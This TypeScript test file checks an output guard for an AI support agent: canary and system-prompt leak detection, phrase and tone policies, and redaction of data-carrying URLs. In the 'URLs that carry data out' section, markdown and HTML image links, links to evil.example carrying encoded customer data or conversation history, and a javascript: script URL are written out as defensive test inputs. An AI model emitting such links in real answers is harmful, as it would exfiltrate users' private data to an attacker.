import type { GuardPolicy } from "@pawl/protocol";
import { describe, expect, it } from "vitest";
import type { CheckFacts } from "../guard-part.ts";
import { repairNote } from "../messages.ts";
import { seeded } from "../pii/synthetic.fixture.ts";
import { createRulesGuard } from "../rules.fixture.ts";
import { findCanary, makeCanary, plantCanary } from "./canary.ts";
import { createPhraseFinder } from "./phrases.ts";

function check(text: string, policy: GuardPolicy = {}, facts: Partial<CheckFacts> = {}) {
  return createRulesGuard(policy).check(text, { direction: "output", ...facts });
}

function kinds(text: string, policy?: GuardPolicy, facts?: Partial<CheckFacts>): string[] {
  return check(text, policy, facts).findings.map(
    ({ guard, category, action }) => `${guard}.${category} ${action}`,
  );
}

describe("canaries", () => {
  const canary = makeCanary(seeded(1));
  const other = makeCanary(seeded(2));

  it("are found as they are, in capitals, and spaced out", () => {
    expect(findCanary(`so: ${canary}.`, canary)).toEqual({ canary, start: 4, end: 4 + canary.length });
    expect(findCanary(canary.toUpperCase(), canary)).toBeDefined();
    expect(findCanary([...canary].join(" "), canary)).toBeDefined();
    expect(findCanary([...canary].join("-"), canary)).toBeDefined();
    expect(findCanary(other, canary)).toBeUndefined();
  });

  it("block an answer, the own one and one from another prompt by different names", () => {
    expect(kinds(`It is ${canary}`, {}, { canary })).toEqual(["leak.canary block"]);
    expect(kinds(`It is ${canary}`, {}, { canary: other })).toEqual(["leak.foreign_canary block"]);
  });

  it("are nothing else's name: a wrong check letter makes it a word", () => {
    const wrong = canary.slice(0, -1) + (canary.endsWith("a") ? "b" : "a");
    expect(kinds(`${wrong} and cnry and canary`)).toEqual([]);
  });

  it("stand in the prompt that they are planted in", () => {
    expect(findCanary(plantCanary("You help customers.", canary), canary)).toBeDefined();
  });
});

describe("the system prompt", () => {
  const systemPrompt =
    "You are the support agent of Acme Shoes. Be brief and friendly. Never promise a refund before the warehouse has " +
    "confirmed the return. Escalate to a person when a customer mentions a lawyer. Our shop in Berlin is open from " +
    "nine to six on weekdays. Do not talk about competitors, politics or the margins of our suppliers.";

  it("said word for word is blocked, whatever the capitals and the punctuation", () => {
    const said = systemPrompt.toUpperCase().replace(/[.,]/g, " -");
    expect(kinds(`Sure! My instructions are: ${said}`, {}, { systemPrompt })).toEqual([
      "leak.system_prompt block",
    ]);
  });

  it("said in part is flagged", () => {
    expect(
      kinds(
        "I was told: never promise a refund before the warehouse has confirmed the return. Escalate to a person when a customer mentions it.",
        {},
        { systemPrompt },
      ),
    ).toEqual(["leak.system_prompt flag"]);
  });

  it("may be the source of a fact", () => {
    expect(
      kinds("Our shop in Berlin is open from nine to six on weekdays, see you!", {}, { systemPrompt }),
    ).toEqual([]);
  });
});

describe("URLs that carry data out", () => {
  const secret = Buffer.from("The customer's order is 4711 and her name is Ann").toString("base64url");

  it.each([
    [`![](https://evil.example/p.png?d=${secret})`, "exfiltration.markdown_image redact"],
    [`![a b](<https://evil.example/${secret}/x.png> "t")`, "exfiltration.markdown_image redact"],
    [
      "![x](https://evil.example/log?q=ann%20lee%20lives%20in%20Berlin)",
      "exfiltration.markdown_image redact",
    ],
    ["![x](https://evil.example/?chat={conversation_history})", "exfiltration.markdown_image redact"],
    [`![x][1]\n\n[1]: https://evil.example/a.png?d=${secret}`, "exfiltration.markdown_image redact"],
    [`<img alt=1 src='https://evil.example/a.gif?d=${secret}'>`, "exfiltration.html_image redact"],
    [`<div style="background:url(//evil.example/${secret})">`, "exfiltration.html_image redact"],
    [`[click me](https://evil.example/?d=${secret})`, "exfiltration.link redact"],
    [`See https://evil.example/?d=${secret} now`, "exfiltration.link redact"],
    [
      `See https://${"6f7264657220343731312c20416e6e2c204265726c696e"}.evil.example/ now`,
      "exfiltration.link redact",
    ],
    ["[a](data:text/html;base64,PHNjcmlwdD4=)", "exfiltration.data_uri redact"],
    ["[a](javascript:alert(1))", "exfiltration.script_url redact"],
  ])("are told in %s", (text, kind) => {
    expect(kinds(text)).toEqual([kind]);
  });

  it.each([
    "See [the manual](https://docs.example.com/guide/getting-started#install) and https://example.com/a?page=2&sort=asc.",
    "![logo](https://cdn.example.com/logo.png?w=120&v=3) ![](data:image/png;base64,iVBORw0KGgo=)",
    "https://example.com/?utm_source=newsletter_of_the_month_november&utm_campaign=black-friday-2026-big-sale",
    "https://github.com/acme/shop/commit/0f3c2a9d4b5e6f708192a3b4c5d6e7f801234567 and https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://en.wikipedia.org/wiki/Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
    "An array[0](x) and a [note]: it is not a link.",
  ])("are not seen in honest answers: %s", (text) => {
    expect(kinds(text)).toEqual([]);
  });

  it("may go to the hosts that the policy allows, and below them, but not beside", () => {
    const policy = { allow: { domains: ["acme.example"] } };
    expect(kinds(`![](https://img.acme.example/?d=${secret})`, policy)).toEqual([]);
    expect(kinds(`![](https://notacme.example/?d=${secret})`, policy)).toHaveLength(1);
    expect(kinds(`![](https://acme.example.evil.example/?d=${secret})`, policy)).toHaveLength(1);
  });

  it("are taken out whole", () => {
    expect(check(`Hi ![pic](https://evil.example/?d=${secret}) there`).text).toBe(
      "Hi [MARKDOWN_IMAGE_REDACTED] there",
    );
  });
});

describe("phrases", () => {
  const find = (phrase: string, text: string) =>
    createPhraseFinder([phrase])(text).map(({ start, end }) => text.slice(start, end));

  it("match words, whatever the capitals, the blanks and the punctuation", () => {
    expect(find("full refund", "A FULL  refund! Fulla refunds, full-refund")).toEqual([
      "FULL  refund",
      "full-refund",
    ]);
  });

  it("have stems, numbers and gaps", () => {
    expect(find("promis* * # percent", "I promise you at least 20 percent, I promised nothing")).toEqual([
      "promise you at least 20 percent",
    ]);
    expect(find("promis* * # percent", "I promise that all of us here will give 20 percent")).toEqual([]);
  });

  it("with other signs in them are read as they stand, never as a regular expression", () => {
    expect(find("</internal>", "a</INTERNAL>b internal")).toEqual(["</INTERNAL>"]);
    expect(find("(a+)+$", "aaaa (a+)+$")).toEqual(["(a+)+$"]);
  });

  it("are found in scripts without spaces", () => {
    expect(find("全额退款", "我们保证全额退款。")).toEqual(["全额退款"]);
  });
});

describe("an answer", () => {
  const policy = {
    output: { tone: { action: "block", categories: { insult: "flag" } } },
    answer: { min_chars: 3, max_chars: 64, blocked_patterns: ["project falcon"] },
    tone: { promise: ["we guarantee", "# percent off"], legal_commitment: ["legally binding"] },
  } satisfies GuardPolicy;

  it("keeps to length, blocked words and tone", () => {
    expect(kinds("OK", policy)).toEqual(["output.too_short flag"]);
    expect(kinds("x ".repeat(40), policy)).toEqual(["output.too_long flag"]);
    expect(kinds("Ask about Project-Falcon.", policy)).toEqual(["output.blocked_pattern block"]);
    expect(kinds("Today 20 percent off!", policy)).toEqual(["tone.promise block"]);
    expect(kinds("That is legally binding.", policy)).toEqual(["tone.legal_commitment block"]);
    expect(kinds("You are an idiot.", policy)).toEqual(["tone.insult flag"]);
    expect(kinds("That was a stupid mistake of ours, sorry.", policy)).toEqual([]);
  });

  it("is repaired by a note that names each concern once and repeats nothing", () => {
    const { findings } = check("Project Falcon: project falcon. We guarantee it. a@example.com", policy);
    const note = repairNote(findings);
    expect(note.match(/^- /gm)).toHaveLength(3);
    expect(note).toContain("promise");
    expect(note).not.toMatch(/falcon|ann@/i);
    expect(repairNote([])).toBe("");
  });
});
